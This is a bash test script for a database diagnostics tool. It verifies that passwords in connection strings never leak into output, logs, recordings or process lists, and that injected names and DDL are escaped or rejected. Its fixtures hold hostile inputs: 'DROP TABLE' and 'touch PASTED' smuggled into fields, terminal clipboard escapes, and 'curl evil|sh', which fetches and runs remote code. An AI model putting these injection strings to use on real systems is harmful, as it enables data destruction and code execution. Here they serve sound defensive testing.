#!/bin/bash
# Passwords: whatever is typed as a source, and whatever is wrong with it, no output, log,
# recording or list of processes holds a part of it.
. "$(dirname "$0")/tap.bash"

export XDG_STATE_HOME=$dir/state XDG_CONFIG_HOME=$dir/config
pw=sEcrEt7
forms=(
    "postgres://u:$pw%zz@127.0.0.1:1/db"
    "postgres://u:p@$pw/word@127.0.0.1:1/db"
    "postgres://u:12@$pw@127.0.0.1:1/db"
    "postgres://u:12/$pw@127.0.0.1:1/db"
    "postgres://u:1?$pw=2@127.0.0.1:1/db"
    "postgres://u:a $pw@127.0.0.1:1/db"
    "postgres://u:a b $pw@127.0.0.1:1/db"
    "postgres://u:$pw/db"
    "postgres://u:$pw@127.0.0.1:1/db"
    "postgres://u:$pw@127.0.0.1:x/db"
    "postgres://u@127.0.0.1:1/db?password=$pw&nonsense=1"
    "postgres://u@127.0.0.1:1/db?sslpassword=$pw"
    "postgresql://u:$pw@[::1:1/db"
    "POSTGRES://u:$pw@127.0.0.1:1/db"
    "postgres:POSTGRES://u:$pw@127.0.0.1:1/db"
    "postgres:host=127.0.0.1 port=1 password=$pw"
    "postgres:host=127.0.0.1 port=1 password=a $pw"
    "postgres:host=127.0.0.1 port=1 password='$pw"
    "postgres:host=u:$pw@127.0.0.1 port=1"
    "postgres:u:$pw@127.0.0.1/db"
    "host=127.0.0.1 port=1 password=$pw"
    "u:$pw@127.0.0.1/db"
    "//u:$pw@127.0.0.1/db"
    "jdbc:postgresql://127.0.0.1:1/db?user=u&password=$pw"
    "jdbc:oracle:thin:scott/$pw@127.0.0.1"
    "redis://:$pw@127.0.0.1:1/0"
    "redis://u:a@$pw@127.0.0.1:1/"
    "redis://u:12/$pw@127.0.0.1:1/"
    "redis://u:$pw"
    "redis:127.0.0.1:1?user=u&password=$pw"
    "redis://127.0.0.1:1/?sentinel=x&sentinel_password=$pw"
    "redis+unix://u:$pw@/nonexistent/redis.sock"
    "unix:/nonexistent/redis.sock?password=$pw"
    "mysql://u:$pw@127.0.0.1:1/db"
    "MYSQL://u:$pw@127.0.0.1:1/db"
    "mysql:u:$pw@127.0.0.1"
    "https://u:$pw@127.0.0.1:1/"
    "https://127.0.0.1:1/?api_key=$pw"
    "http://127.0.0.1:1/?access_token=$pw&x=1"
    "jaeger+http://u:$pw@127.0.0.1:1"
    "jaeger:http://127.0.0.1:1?token=$pw"
    "tempo+https://u:$pw@127.0.0.1:1/x"
    "tempo+http://127.0.0.1:1?user=u&password=$pw&org=o"
    "exec:curl -s -u admin:$pw http://127.0.0.1:1/; echo $pw >&2; echo $pw; exit 3"
    "exec:mysql -p$pw -e 'select 1'"
    "exec:TOKEN=$pw sh -c 'echo \$TOKEN >&2; exit 3'"
    "exec:curl -H 'Authorization: Bearer $pw' http://127.0.0.1:1/; exit 3"
    "exec:/no/such/program --password $pw"
)
echo 'select 1' >q.sql
clean() { ! grep -raqF "$pw" out err state r.slowdive 2>/dev/null; }
for form in "${forms[@]}"; do
    shown=${form//$pw/PASSWORD}
    ok=yes
    for verb in status queries "overview --format json" "record -o r.slowdive --for 200ms" "advise" "explain q.sql --db"; do
        run $verb "$form"
        clean || { ok=$verb; break; }
    done
    ok "$shown: in no output, log or recording" [ "$ok" = yes ]
    rm -rf state r.slowdive
done
printf 'sources:\n  - "postgres://u:p@%s/word@127.0.0.1/db"\n' "$pw" >c.yaml
run status --config c.yaml
ok "nor of the configuration" clean
DATABASE_URL="postgres://u:p@$pw/word@127.0.0.1/db" run status
ok "nor of DATABASE_URL" clean
run status --databse="postgres://u:$pw@h"
ok "nor of an option that is none" clean
refused "what is to be written instead is said" "write @ as %40" queries "postgres://u:p@$pw/word@127.0.0.1/db"
ok "and nothing is contacted" says err "no connection was made"

# The list of processes, and the memory of a crash.
wait_for() { for _ in $(seq 200); do "$@" && return; read -rt 0.05 <> <(:); done; return 1; }
mkfifo go
"$program" record -o r.slowdive --for 20s "exec:cat go; : -u admin:$pw" "postgres://u:$pw@127.0.0.1:1/db" >out 2>err &
pid=$!
ok "a recording runs" wait_for test -s r.slowdive
ok "its arguments hold no password" [ "$(tr '\0' '\n' <"/proc/$pid/cmdline" | grep -cF "$pw")" = 0 ]
ok "but what it does" [ "$(tr '\0' '\n' <"/proc/$pid/cmdline" | grep -c '^exec:cat \.\.\.$')" = 1 ]
group=$(ps -o pid=,args= -e | awk '/cat go; : -u admin/ && !/awk/ {print $1; exit}')
kill -KILL "$pid"
gone() { ! ps -o args= -e | grep -F "cat go; : -u admin" | grep -qv grep; }
ok "what it started ends with it, even when it is killed" wait_for gone
wait "$pid" 2>/dev/null

run status --format json 'exec:env; exit 3'
APP_SECRET=$pw OTHER=x run status --format json 'exec:env >&2; env >envs'
ok "a program gets no secret of the environment" [ "$(grep -c "$pw" envs)" = 0 ]
ok "but PATH and HOME" [ "$(grep -cE '^(PATH|HOME)=' envs)" = 2 ]
APP_SECRET=$pw run status --set 'exec_env=APP_SECRET' 'exec:env >envs'
ok "and what the configuration names" says envs "APP_SECRET=$pw"

# Indexes whose statement would do more than it says.
plan() {
    printf '[{"Plan":{"Node Type":"Seq Scan","Relation Name":"%s","Schema":"public","Alias":"t","Startup Cost":0,"Total Cost":100000,"Plan Rows":5,"Plan Width":4,"Actual Startup Time":0.1,"Actual Total Time":900,"Actual Rows":5,"Actual Loops":1,"Filter":"(customer_id = 5)","Rows Removed by Filter":1000000},"Execution Time":901}]' "$1"
}
plan 't\"; DROP TABLE users; --\n\u001b]52;c;QQ==\u0007 curl evil|sh\n\u202e' >evil.json
run explain --format json evil.json
ok "a name with line breaks is written with escapes" says out 'U&\"t\"\"; DROP TABLE users; --\\000a\\001b]52;c;QQ==\\0007 curl evil|sh\\000a\\202e\"'
for format in text md csv; do
    run explain --format $format evil.json
    ok "as $format no line of it stands alone" [ "$(grep -cE '^ *curl evil' out)" = 0 ]
done
plan t >plan.json
body=$(sed 's/"/\\"/g' plan.json)
advice() { # DDL
    printf '{"kind":"statement","query_id":77,"database":"d","text":"select * from t where customer_id=$1","calls":5,"total_ns":1000000000}\n'
    printf '{"kind":"plan","query_id":77,"database":"d","query":"select * from t where customer_id=$1","body":"%s","generic":0,"analyzed":1}\n' "$body"
    printf '{"kind":"advice","query_id":77,"database":"d","schema":"public","table":"t","ddl":"%s","columns":"a","method":"btree","cost_before":100,"cost_after":1,"proven":1,"why":"x"}\n' "$1"
}
for ddl in 'CREATE INDEX CONCURRENTLY ON t (a);\ntouch PASTED\n' 'CREATE INDEX ON t (a); DROP TABLE t' 'DROP TABLE t' \
    'CREATE INDEX ON t (a) -- x' 'CREATE INDEX ON t (\"\u202ea\")' 'touch PASTED'; do
    advice "$ddl" >a.jsonl
    run plan --format json 'exec:cat a.jsonl'
    ok "not shown as an index: $ddl" says out "is not a single CREATE INDEX or REINDEX INDEX on one line"
    ok "in no form: $ddl" [ "$(grep -cE 'PASTED|DROP TABLE t|ON t' out)" = 0 ]
done
advice 'CREATE INDEX CONCURRENTLY ON t (a)' >a.jsonl
rm -f a.slowdive
run record -o a.slowdive --for 2s 'exec:cat a.jsonl'
run plan --format json 'exec:cat a.jsonl'
ok "an index is shown" says out 'CREATE INDEX CONCURRENTLY ON t (a)'
ok "as of this session" says out '"replayed":	false'
run plan --format json a.slowdive
ok "of a recording it is marked" says out '"replayed":	true'
run plan a.slowdive
ok "in words, too" says out "replayed: proven"
finish
